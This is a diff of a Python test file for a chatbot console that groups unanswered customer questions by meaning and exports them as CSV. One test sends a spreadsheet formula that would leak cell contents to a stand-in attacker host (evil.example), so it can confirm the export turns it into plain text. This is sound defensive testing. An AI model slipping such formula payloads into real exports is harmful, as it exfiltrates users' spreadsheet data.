@@ -4,15 +4,31 @@ import csv
 import html
 import io
 import re
+import time
+from collections.abc import Iterator
 from contextlib import nullcontext
+from dataclasses import dataclass
+from pathlib import Path
+from threading import Event
 
 import pytest
+from sqlalchemy import delete, select, update
 
 from bot.assistant import Assistant
 from tests.web.console.conftest import Person
 from web.console.sheet import cell
-from web.console.vain_groups import VainGroups
-from web.storage.vain import Reason, VainTurn
+from web.console.vain_groups import Vain, VainGroups
+from web.meanings import MeaningReader
+from web.storage.conversations import Answer, ConversationStore, MessageKey
+from web.storage.database import Database
+from web.storage.meanings import MeaningStore
+from web.storage.period import Span
+from web.storage.ratings import Rating, RatingStore
+from web.storage.retention import Retention
+from web.storage.tables import CONVERSATIONS, TURNS
+from web.storage.tables import MEANINGS as MEANINGS_TABLE
+from web.storage.turns import TurnRecord
+from web.storage.vain import Reason, VainStore
 
 # Own questions, each row much the same in other words; the content answers none of them.
 MEANINGS = (
@@ -26,56 +42,151 @@ MEANINGS = (
 )
 
 
-def asked(messages: list[str]) -> list[VainTurn]:
-    """Turns with these messages, the newest first."""
-    return [VainTurn(f"m{n}", text, 1_000 - n, "cs", Reason.DECLINED) for n, text in enumerate(messages)]
-
-
 def rows(text: str) -> list[dict[str, str]]:
     """The rows of a CSV file."""
     return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
 
 
-@pytest.fixture(scope="module")
-def groups(assistant: Assistant) -> VainGroups:
-    """Groups by the real encoder."""
-    return VainGroups(assistant.index.retriever, nullcontext())
+@dataclass(frozen=True)
+class Asked:
+    """Messages in a database of their own, and who reads and groups them."""
+
+    database: Database
+    assistant: Assistant
+
+    @property
+    def meanings(self) -> MeaningStore:
+        """What was made of them."""
+        return MeaningStore(self.database, Retention(90), self.assistant.index.manifest.name)
+
+    def ask(self, *messages: str, kind: str = "no_answer") -> list[str]:
+        """Customers write this; the ids of the replies."""
+        store = ConversationStore(self.database, Retention(90))
+
+        def answer(message: str) -> Answer:
+            return lambda state, ids: (TurnRecord(message, ids.message_id, kind, "cs"), state)
+
+        return [store.take_turn(MessageKey(None), answer(message)) for message in messages]
+
+    def read(self) -> None:
+        """Read them, as the upkeep does."""
+        MeaningReader(self.meanings, self.assistant.index.retriever, nullcontext(), Event()).read_all()
+
+    def groups(self) -> Vain:
+        """The groups of the last days."""
+        now = int(time.time())
+        return VainGroups(VainStore(self.database, Retention(90)), self.meanings).of(Span(now - 1000, now + 1000))
+
+    def grouped(self) -> set[frozenset[str]]:
+        """The texts of each group."""
+        examples = [[text.message_id for text in one.texts] for one in self.groups().groups]
+        return {frozenset(row.message for row in self.meanings.asked(ids).values()) for ids in examples}
 
 
-def test_questions_that_mean_the_same_are_one_group_in_any_order_and_language(groups: VainGroups) -> None:
+@pytest.fixture
+def asked(assistant: Assistant, tmp_path: Path) -> Iterator[Asked]:
+    """Nothing yet, and the real encoder."""
+    database = Database(f"sqlite:///{tmp_path}/asked.db")
+    yield Asked(database, assistant)
+    database.close()
+
+
+def test_questions_that_mean_the_same_are_one_group_in_any_order_and_language(
+    assistant: Assistant, tmp_path: Path
+) -> None:
     messages = [text for meaning in MEANINGS for text in meaning]
-    for order in (messages, messages[::-1], sorted(messages)):
-        found = {frozenset(turn.message for turn in one.examples) for one in groups.of(asked(order)).groups}
-        assert found == {frozenset(meaning) for meaning in MEANINGS}
+    for number, order in enumerate((messages, messages[::-1], sorted(messages))):
+        other = Asked(Database(f"sqlite:///{tmp_path}/{number}.db"), assistant)
+        other.ask(*order)
+        other.read()
+        assert other.grouped() == {frozenset(meaning) for meaning in MEANINGS}
+        other.database.close()
 
 
-def test_the_same_turns_make_the_same_groups(assistant: Assistant, groups: VainGroups) -> None:
-    turns = asked([text for meaning in MEANINGS for text in meaning])
-    assert VainGroups(assistant.index.retriever, nullcontext()).of(turns) == groups.of(turns)
+def test_what_nobody_has_read_yet_is_told_and_in_no_group(asked: Asked) -> None:
+    asked.ask(*MEANINGS[0])
+    assert (asked.groups().groups, asked.groups().waiting) == ((), 3)
+    asked.read()
+    assert (len(asked.groups().groups), asked.groups().waiting) == (1, 0)
 
 
-def test_the_same_words_written_otherwise_are_one_text_and_each_message_counts(groups: VainGroups) -> None:
-    (one,) = groups.of(
-        asked(["Máte recept na svíčkovou?", "mate recept na svickovou?", "Máte recept na svíčkovou?"])
-    ).groups
-    assert (one.count, len(one.examples), one.newest) == (3, 1, 1_000)
+def test_what_another_index_has_read_is_read_anew(asked: Asked) -> None:
+    asked.ask(*MEANINGS[0])
+    asked.read()
+    with asked.database.writing() as connection:
+        connection.execute(update(MEANINGS_TABLE).values(index_name="another", nearest="gone"))
+    assert asked.groups().waiting == 3
+    asked.read()
+    (one,) = asked.groups().groups
+    assert asked.meanings.asked([one.texts[0].message_id])[one.texts[0].message_id].nearest != "gone"
 
 
-def test_a_message_with_two_reasons_counts_once(groups: VainGroups) -> None:
-    turns = [VainTurn("m1", "Kdo vyhrál hokej?", 5, "cs", reason) for reason in (Reason.DECLINED, Reason.RATED_DOWN)]
-    (one,) = groups.of(turns).groups
+def test_the_same_words_written_otherwise_are_one_text_and_each_message_counts(asked: Asked) -> None:
+    asked.ask("Máte recept na svíčkovou?", "mate recept  na svickovou?", "Máte recept na svíčkovou?")
+    asked.read()
+    (one,) = asked.groups().groups
+    assert (one.count, len(one.texts)) == (3, 1)
+
+
+def test_a_message_with_two_reasons_counts_once(asked: Asked) -> None:
+    (message_id,) = asked.ask("Kdo vyhrál hokej?")
+    RatingStore(asked.database, Retention(90)).rate(Rating(message_id, "down"))
+    asked.read()
+    (one,) = asked.groups().groups
     assert (one.count, one.reasons) == (1, {Reason.DECLINED: 1, Reason.RATED_DOWN: 1})
 
 
-def test_nothing_asked_in_vain_is_no_group(groups: VainGroups) -> None:
-    assert groups.of([]).groups == ()
+def test_what_is_erased_or_rated_anew_is_gone_at_once(asked: Asked) -> None:
+    erased, rated = asked.ask(*MEANINGS[0][:2], kind="answer")
+    ratings = RatingStore(asked.database, Retention(90))
+    for message_id in (erased, rated):
+        ratings.rate(Rating(message_id, "down"))
+    asked.read()
+    assert asked.groups().count == 2
+    with asked.database.writing() as connection:
+        owner = select(TURNS.c.conversation_id).where(TURNS.c.message_id == erased)
+        connection.execute(delete(CONVERSATIONS).where(CONVERSATIONS.c.id.in_(owner)))
+        assert connection.execute(select(MEANINGS_TABLE.c.message_id)).scalars().all() == [rated]
+    assert asked.groups().count == 1
+    ratings.rate(Rating(rated, "up"))
+    # An answer of confidence 0, as it is written here, is unsure whatever is thought of it.
+    assert asked.groups().groups[0].reasons == {Reason.UNSURE: 1}
 
 
-def test_each_reason_is_shown_with_the_nearest_entry(agent: Person, lead: Person) -> None:
+def test_an_empty_message_is_no_text_and_waits_for_nobody(asked: Asked) -> None:
+    asked.ask("", "…")
+    asked.read()
+    assert (len(asked.groups().groups), asked.groups().waiting) == (1, 0)
+
+
+def test_two_processes_do_not_read_the_same_at_once(asked: Asked) -> None:
+    asked.ask(*MEANINGS[0])
+    assert asked.meanings.claim(60)
+    reader = MeaningReader(asked.meanings, asked.assistant.index.retriever, nullcontext(), Event())
+    assert not reader.read_some()
+    asked.meanings.release()
+    assert reader.read_some()
+
+
+def test_a_reader_that_has_died_holds_up_nobody(asked: Asked) -> None:
+    assert asked.meanings.claim(60)
+    assert not asked.meanings.claim(60)
+    assert asked.meanings.claim(0)
+
+
+def read_all(database: Database, assistant: Assistant) -> None:
+    """Read what was asked in vain, as the upkeep does."""
+    Asked(database, assistant).read()
+
+
+def test_each_reason_is_shown_with_the_nearest_entry(
+    agent: Person, lead: Person, database: Database, assistant: Assistant
+) -> None:
     agent.chat("Kolik stojí letenka do Tokia?")
     agent.rate(agent.chat("Jak zapnu roaming v Taycanu?"), "down")
     agent.hand_off(agent.chat("K čemu je bezpečnostní kód?", "děkuji"))
     agent.rate(agent.chat("Jak smažu účet Porsche ID?"), "up")
+    read_all(database, assistant)
     page = lead.get("/console/vain").text
     for text in ("Kolik stojí letenka do Tokia?", "Jak zapnu roaming v Taycanu?", "K čemu je bezpečnostní kód?"):
         assert text in page
@@ -101,8 +212,11 @@ def test_other_cells_stay_as_they_are() -> None:
     assert [cell(value) for value in (-1, 0.5, "", "a=b", "2026-01-31")] == ["-1", "0.5", "", "a=b", "2026-01-31"]
 
 
-def test_a_question_that_is_a_formula_is_exported_as_text(agent: Person, lead: Person) -> None:
+def test_a_question_that_is_a_formula_is_exported_as_text(
+    agent: Person, lead: Person, database: Database, assistant: Assistant
+) -> None:
     agent.chat('=HYPERLINK("http://evil.example?x="&A1;"Kolik stojí letenka do Tokia?")')
+    read_all(database, assistant)
     text = lead.get("/console/vain.csv").text
     assert text.startswith("\ufeff")
     (row,) = rows(text)
@@ -132,6 +246,7 @@ def test_rates_tell_what_was_answered_and_what_was_resolved(agent: Person, lead:
     assert re.findall(r"<dd>(.*?)</dd>", page)[:3] == ["5", "80%", "40%"]
     assert len(re.findall(r"<svg[^>]*role=\"img\"[^>]*>\s*<title", page)) == 5
     assert "style=" not in page
+    assert [name in page for name in ("Czech", "no entry", "not known")] == [True] * 3
 
 
 def test_rates_of_days_without_conversations_are_told_as_none(lead: Person) -> None:
